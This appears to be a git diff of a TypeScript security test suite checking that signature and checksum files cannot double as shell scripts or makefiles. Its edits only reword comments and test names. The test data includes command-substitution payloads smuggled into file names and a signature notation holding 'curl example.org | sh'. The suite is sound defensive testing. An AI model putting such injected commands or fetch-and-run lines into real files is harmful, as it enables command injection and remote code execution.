@@ -1,5 +1,5 @@
-// H7: a file that is let in as a signature is no program besides. Each attack is run by the interpreter that it is for, so
-// that it is known to work, and is then refused as a signature.
+// H7: a file that is accepted as a signature is not a program as well. Each attack is first run by
+// the interpreter that it is for, to show that it works, and is then refused as a signature.
 import assert from 'node:assert/strict'
 import { spawnSync } from 'node:child_process'
 import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
@@ -32,7 +32,7 @@ const withComment = (comment: string) =>
 const trustedComment = (comment: string) =>
   MINISIG.replace(/^trusted comment: .*/m, `trusted comment: ${comment}`)
 
-/** Files that make `ran` where a shell reads them as a script. */
+/** Files that create `ran` when a shell runs them as a script. */
 const SCRIPTS: Readonly<Record<string, string>> = {
   'a name in a list': `${HASH}  $(>ran)\n`,
   'a name in a list, in backquotes': `${HASH}  \`>ran\`\n`,
@@ -49,7 +49,7 @@ const SCRIPTS: Readonly<Record<string, string>> = {
   'a text in a bundle': BUNDLE.replace('"mediaType":', '"mediaType$(>ran)":'),
 }
 
-/** The same for make, whose tool is there. */
+/** Files that create `ran` when make reads them. */
 const MAKEFILES: Readonly<Record<string, string>> = {
   'a name in a list': `${HASH}  $(shell touch ran)\n`,
   'a name in a list of BSD': `SHA256 (a$(shell touch ran)) = ${HASH}\n`,
@@ -104,7 +104,8 @@ describe('attack: a signature file for other readers', () => {
 
   it('a notation in a binary signature', () => {
     const { body, header } = binarySignature()
-    // Unhashed, so whoever has the file can add it: a notation called x@y whose value is a line of shell.
+    // In the unhashed area, so whoever has the file can add it: a notation named x@y whose value is
+    // a line of shell.
     const value = Buffer.from('\ncurl example.org | sh\n')
     const notation = Buffer.concat([
       Buffer.from([0x80, 0, 0, 0, 0, 3, 0, value.length]),
@@ -135,7 +136,7 @@ describe('attack: a signature file for other readers', () => {
   })
 })
 
-/** A binary signature: its body, and what makes a packet of a body. */
+/** A binary signature: its body, and the function that makes a packet of a body. */
 function binarySignature() {
   const lines = ARMOUR.split('\n\n')[1]?.split('\n=')[0] ?? ''
   const packet = Buffer.from(lines.replace(/\n|-----[\s\S]*/g, ''), 'base64')
@@ -147,7 +148,7 @@ function binarySignature() {
   }
 }
 
-describe('what people sign with', () => {
+describe('what common tools make', () => {
   const honest: Readonly<Record<string, string | Uint8Array>> = {
     armour: ARMOUR,
     'armour of years ago': withHeader('Version: GnuPG v1.4.11 (GNU/Linux)'),
@@ -173,7 +174,7 @@ describe('what people sign with', () => {
     assertInert(readFileSync(join(PROJECT_ROOT, 'test/vectors/openpgp/v6-signature.asc')))
   })
 
-  it('binary signatures, which are random for the most part', () => {
+  it('binary signatures, whose bytes are mostly random', () => {
     fc.assert(
       fc.property(fc.uint8Array({ minLength: 64, maxLength: 600 }), bytes => {
         assertInert(Uint8Array.of(0x89, 2, 0x33, ...bytes))
@@ -183,7 +184,7 @@ describe('what people sign with', () => {
   })
 })
 
-it('no list with any name at all runs anything that has a character with a meaning', () => {
+it('no list runs anything, whatever characters its file names have', () => {
   const names = fc.stringMatching(/^[ -~]{1,20}$/)
   fc.assert(
     fc.property(names, name => {
